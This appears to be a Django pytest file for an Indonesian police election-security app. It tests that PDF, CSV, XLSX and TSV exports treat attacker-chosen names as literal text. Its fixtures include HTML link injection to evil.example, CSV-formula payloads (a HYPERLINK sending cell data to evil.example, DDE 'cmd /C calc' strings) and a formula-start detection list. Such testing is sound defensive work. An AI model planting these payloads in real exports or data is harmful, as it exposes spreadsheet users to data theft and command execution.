"""Attacker-chosen names (region import, roster import, admin forms) in every export.

A name is data wherever it lands: literal text in the PDF (never reportlab markup, never a link)
and a text cell in every spreadsheet (never a formula Excel would run).
"""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader
from reportlab.lib.styles import getSampleStyleSheet
from reportlab.platypus import SimpleDocTemplate

from operations.models import Duty, Officer
from operations.roles import KABAG_OPS
from operations.roster import roster_export, roster_import
from operations.services.assignments import assignment_create
from pilkades.pdf import text_paragraph
from tests.factories import CandidateFactory, UnitFactory
from tests.operations.deployment_setup import build_world, officers
from villages.models import Desa, Kecamatan
from villages.services import regions_export, regions_import

pytestmark = pytest.mark.django_db

MARKUP_KECAMATAN = 'Renged <img src="x"/>'
MARKUP_DESA = 'Desa <a href="https://evil.example/">Klik</a>'


def _rename_through_import(kecamatan, kecamatan_name: str, desa, desa_name: str) -> None:
    """As an imported Kemendagri list would: the names arrive through the region import."""
    regions_import(data=f"{kecamatan.code}\t{kecamatan_name}\n{desa.code}\t{desa_name}\n".encode())


def _pdf_text_and_links(body: bytes) -> tuple[str, list[str]]:
    reader = PdfReader(io.BytesIO(body))
    text = "\n".join(page.extract_text() for page in reader.pages)
    uris = [
        str(annotation.get_object().get("/A", {}).get("/URI", ""))
        for page in reader.pages
        for annotation in page.get("/Annots", None) or []
    ]
    return text, uris


@pytest.fixture
def markup_world(make_user):
    world = build_world(make_user)
    village = world.own[0]
    _rename_through_import(village.desa.kecamatan, MARKUP_KECAMATAN, village.desa, MARKUP_DESA)
    (officer,) = officers(world.polres, 1, name="Slamet Riyadi")
    assignment_create(
        operation=world.operation,
        officer=officer,
        duty=Duty.VILLAGE_GUARD,
        village_election=village,
        by=world.kabag,
    )
    world.operation.name = "Operasi <b>Mantap</b> & Aman"
    world.operation.save()
    return world


def test_order_pdf_prints_markup_in_names_as_literal_text_over_the_api(api_client, markup_world):
    api_client.force_authenticate(markup_world.kabag)

    response = api_client.get(f"/api/v1/operations/{markup_world.operation.pk}/order.pdf")

    assert response.status_code == 200
    text, uris = _pdf_text_and_links(response.content)
    assert MARKUP_KECAMATAN in text
    assert MARKUP_DESA in text
    assert "Operasi <b>Mantap</b> & Aman" in text
    assert not [uri for uri in uris if "evil.example" in uri]


def test_order_pdf_page_download_survives_markup_in_names(client, markup_world):
    client.force_login(markup_world.kabag)

    response = client.get(reverse("deployment-order", args=[markup_world.operation.pk, "pdf"]))

    assert response.status_code == 200
    text, uris = _pdf_text_and_links(response.content)
    assert MARKUP_KECAMATAN in text and MARKUP_DESA in text
    assert uris == []


@pytest.mark.parametrize(
    "name",
    [
        MARKUP_DESA,
        'Desa <link href="https://evil.example/">Klik</link>',
        "Desa <font size=90>Besar</font> & <unknown>",
        "Desa &amp; &#60;b&#62;",
    ],
)
def test_text_paragraph_shows_markup_literally_and_links_nothing(name):
    body = io.BytesIO()
    SimpleDocTemplate(body).build([text_paragraph(name, getSampleStyleSheet()["Normal"])])

    text, uris = _pdf_text_and_links(body.getvalue())
    assert name in text
    assert uris == []


# OWASP's list of characters that start a formula (or a DDE call) in Excel, LibreOffice and Sheets.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULA_DESA = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
FORMULA_KECAMATAN = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_OFFICER = "-2+3+cmd|' /C calc'!A0"
FORMULA_CANDIDATE = '+HYPERLINK("http://evil.example/","Calon")'
FORMULA_POSITION = "\t=1+1"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_no_formula_in_csv(text: str, *, delimiter: str = ",") -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
    live = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]
    assert live == []
    return rows


def assert_no_formula_in_xlsx(body: bytes) -> list[list]:
    workbook = load_workbook(io.BytesIO(body))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    live = [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)]
    assert live == []
    return [[cell.value for cell in row] for sheet in workbook.worksheets for row in sheet.iter_rows()]


@pytest.fixture
def formula_world(make_user):
    world = build_world(make_user)
    village = world.own[0]
    _rename_through_import(village.desa.kecamatan, FORMULA_KECAMATAN, village.desa, FORMULA_DESA)
    world.polsek.name = "=1+1 Polsek"
    world.polsek.save()
    (officer,) = officers(world.polres, 1, name=FORMULA_OFFICER)
    (escort,) = officers(world.polres, 1, name="Yusuf Pengawal")
    candidate = CandidateFactory(village_election=village, full_name=FORMULA_CANDIDATE)
    assignment_create(
        operation=world.operation,
        officer=officer,
        duty=Duty.VILLAGE_GUARD,
        village_election=village,
        by=world.kabag,
    )
    assignment_create(
        operation=world.operation, officer=escort, duty=Duty.CLOSE_ESCORT, candidate=candidate, by=world.kabag
    )
    return world


def _download(client, world, name: str, file_format: str):
    client.force_login(world.kabag)
    response = client.get(reverse(name, args=[world.operation.pk, file_format]))
    assert response.status_code == 200
    return response.content


def test_ranking_csv_neutralises_formulas_in_names(client, formula_world):
    text = _download(client, formula_world, "ranking-download", "csv").decode("utf-8-sig")

    rows = assert_no_formula_in_csv(text)
    assert any("'" + FORMULA_DESA in row for row in rows)
    assert any("'" + FORMULA_KECAMATAN in row for row in rows)


def test_ranking_xlsx_writes_names_as_text_and_numbers_as_numbers(client, formula_world):
    rows = assert_no_formula_in_xlsx(_download(client, formula_world, "ranking-download", "xlsx"))

    desa_row = next(row for row in rows if "'" + FORMULA_DESA in row)
    assert isinstance(desa_row[0], int)  # the rank number stays a number


def test_order_csv_neutralises_formulas_in_names(client, formula_world):
    rows = assert_no_formula_in_csv(_download(client, formula_world, "deployment-order", "csv").decode())

    cells = {cell for row in rows for cell in row}
    assert {"'" + FORMULA_DESA, "'" + FORMULA_KECAMATAN, "'" + FORMULA_OFFICER} <= cells
    assert any(FORMULA_CANDIDATE in cell for cell in cells)


def test_order_xlsx_over_the_api_has_no_formula_cells(api_client, formula_world):
    api_client.force_authenticate(formula_world.kabag)

    response = api_client.get(f"/api/v1/operations/{formula_world.operation.pk}/order.xlsx")

    assert response.status_code == 200
    rows = assert_no_formula_in_xlsx(response.content)
    assert any("'" + FORMULA_OFFICER in row for row in rows)


def test_order_pdf_with_formula_names_is_unaffected(client, formula_world):
    text, _ = _pdf_text_and_links(_download(client, formula_world, "deployment-order", "pdf"))

    assert FORMULA_OFFICER in text and "'" + FORMULA_OFFICER not in text


@pytest.mark.parametrize("file_format", ["csv", "xlsx", "tsv"])
def test_admin_roster_export_neutralises_formulas(client, make_user, file_format):
    client.force_login(make_user(KABAG_OPS))
    unit = UnitFactory(name="+Polsek Carenang", kind="polsek")
    Officer.objects.create(
        nrp="85010001", name=FORMULA_OFFICER, position=FORMULA_POSITION, rank=23, unit=unit
    )
    url = reverse("admin:operations_officer_export")
    choices = client.get(url).context["form"].fields["format"].choices
    choice = next(value for value, label in choices if str(label).lower() == file_format)

    response = client.post(
        url,
        {
            "format": choice,
            "resource": 0,
            **{f"officerresource_{field}": True for field in ("nrp", "name", "rank", "position", "unit")},
        },
    )

    assert response.status_code == 200
    if file_format == "xlsx":
        rows = assert_no_formula_in_xlsx(response.content)
    else:
        rows = assert_no_formula_in_csv(
            response.content.decode(), delimiter="," if file_format == "csv" else "\t"
        )
    assert ["85010001", "'" + FORMULA_OFFICER, "Bripka", "'" + FORMULA_POSITION, "'+Polsek Carenang"] in rows


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_roster_export_round_trips_formula_names_through_the_import(file_format):
    unit = UnitFactory(name="Polsek Carenang", kind="polsek")
    Officer.objects.create(
        nrp="85010001", name=FORMULA_OFFICER, position=FORMULA_POSITION, rank=23, unit=unit
    )

    body = roster_export(file_format=file_format)
    Officer.objects.all().delete()
    roster_import(data=body, file_format=file_format)

    assert list(Officer.objects.values_list("name", "position")) == [(FORMULA_OFFICER, FORMULA_POSITION)]


def test_export_regions_csv_neutralises_formulas_and_round_trips(tmp_path):
    regions_import(
        data=f"36.04\t=KAB. SERANG\n36.04.17\t{FORMULA_KECAMATAN}\n36.04.17.2010\t{FORMULA_DESA}\n".encode()
    )
    path = tmp_path / "wilayah.csv"

    call_command("export_regions", str(path))

    assert_no_formula_in_csv(path.read_text())
    Desa.objects.all().delete()
    Kecamatan.objects.all().delete()
    regions_import(data=path.read_bytes())
    assert Kecamatan.objects.get(code="36.04.17").name == FORMULA_KECAMATAN
    assert Kecamatan.objects.get(code="36.04.17").kabupaten_name == "=KAB. SERANG"
    assert Desa.objects.get(code="36.04.17.2010").name == FORMULA_DESA


def test_export_regions_xlsx_has_no_formula_cells():
    regions_import(data=f"36.04.17\t{FORMULA_KECAMATAN}\n36.04.17.2010\t{FORMULA_DESA}\n".encode())

    rows = assert_no_formula_in_xlsx(regions_export(file_format="xlsx"))

    assert ["36.04.17.2010", "'" + FORMULA_DESA] in rows
